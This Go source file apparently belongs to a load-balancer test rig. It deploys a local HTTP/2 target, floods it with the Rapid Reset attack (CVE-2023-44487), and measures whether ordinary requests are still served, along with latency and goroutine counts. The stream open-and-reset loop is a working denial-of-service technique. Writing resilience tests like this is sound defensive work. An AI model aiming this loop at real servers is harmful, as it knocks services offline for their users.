package badpeers

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"runtime"
	"slices"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"

	"yokestall/internal/fake/rawpeer"
	"yokestall/internal/fake/webpeer"
)

const (
	// resetClients is how many connections reset streams at once.
	resetClients = 4

	// yieldInterval is the number of resets after which a client yields the processor.
	yieldInterval = 64

	// maxResetGoroutines bounds the goroutines of the process. A stream has its handler, its attempt and little more;
	// a connection has a few, and so has the rest of the process.
	maxResetGoroutines = resetClients*(3*streamsPerConnection+20) + 200
)

// rapidReset opens streams and resets them at once, as fast as it can, over a few connections that are opened again
// when the load balancer closes them (CVE-2023-44487), while a normal client sends requests.
func (r *rig) rapidReset(ctx context.Context) (string, error) {
	d, err := r.deploy(webpeer.Protocol{HTTP2: true}, webpeer.Protocol{})
	if err != nil {
		return "", err
	}
	defer d.close()
	attack := resetAttack{addr: d.addr, limit: int64(r.Resets)}
	var clients sync.WaitGroup
	for range resetClients {
		clients.Go(func() { attack.run(ctx) })
	}
	ended := make(chan struct{})
	go func() {
		clients.Wait()
		close(ended)
	}()
	normal := r.sendUntil(ctx, d, ended)
	clients.Wait()
	if normal.served == 0 {
		r.report("no usual request was served")
	}
	if normal.goroutines > maxResetGoroutines {
		r.report("%d goroutines, %d at most", normal.goroutines, maxResetGoroutines)
	}
	slices.Sort(normal.latencies)
	n := len(normal.latencies)
	p99 := normal.latencies[n*99/100].Round(time.Microsecond)
	return fmt.Sprintf("%d resets over %d connections; %d of %d usual requests served, p99 %v; %d goroutines",
		attack.resets.Load(), attack.closed.Load(), normal.served, n, p99, normal.goroutines), nil
}

// normalClient is what a client measured that does nothing wrong.
type normalClient struct {
	latencies  []time.Duration
	served     int
	goroutines int // the most in the process
}

// sendUntil sends one request after another until ended is closed, and one more after that.
func (r *rig) sendUntil(ctx context.Context, d *deployment, ended <-chan struct{}) (normal normalClient) {
	for last := false; !last; {
		select {
		case <-ended:
			last = true
		default:
		}
		start := time.Now()
		resp, err := d.send(ctx, "/x", "", nil)
		if err != nil {
			r.report("a usual client: %v", err)
			break
		}
		resp.Body.Close()
		if resp.StatusCode == http.StatusOK {
			normal.served++
		}
		normal.latencies = append(normal.latencies, time.Since(start))
		normal.goroutines = max(normal.goroutines, runtime.NumGoroutine())
	}
	return normal
}

// resetAttack is the clients that reset streams.
type resetAttack struct {
	addr           string
	limit          int64 // of resets; clients that run at once may exceed it by one each
	resets, closed atomic.Int64
}

// run resets streams, over a new connection whenever one is closed, until the limit is reached.
func (a *resetAttack) run(ctx context.Context) {
	for a.resets.Load() < a.limit && ctx.Err() == nil {
		conn, framer, err := rawpeer.OpenHTTP2(a.addr)
		if err != nil {
			return
		}
		var reader sync.WaitGroup
		reader.Go(func() { io.Copy(io.Discard, conn) })
		a.resetStreams(framer)
		a.closed.Add(1)
		conn.Close()
		reader.Wait()
	}
}

// resetStreams resets streams of one connection until it is closed or the limit is reached.
func (a *resetAttack) resetStreams(framer *http2.Framer) {
	head := rawpeer.Fields(":method", "GET", ":scheme", "http", ":authority", "a", ":path", "/x")
	for id := uint32(1); a.resets.Load() < a.limit; id += 2 {
		if openAndReset(framer, id, head) != nil {
			return
		}
		if a.resets.Add(1)%yieldInterval == 0 {
			runtime.Gosched() // on one core the others need their turn
		}
	}
}

// openAndReset opens a stream and resets it.
func openAndReset(framer *http2.Framer, id uint32, head []byte) error {
	open := http2.HeadersFrameParam{StreamID: id, BlockFragment: head, EndHeaders: true, EndStream: true}
	if err := framer.WriteHeaders(open); err != nil {
		return err
	}
	return framer.WriteRSTStream(id, http2.ErrCodeCancel)
}
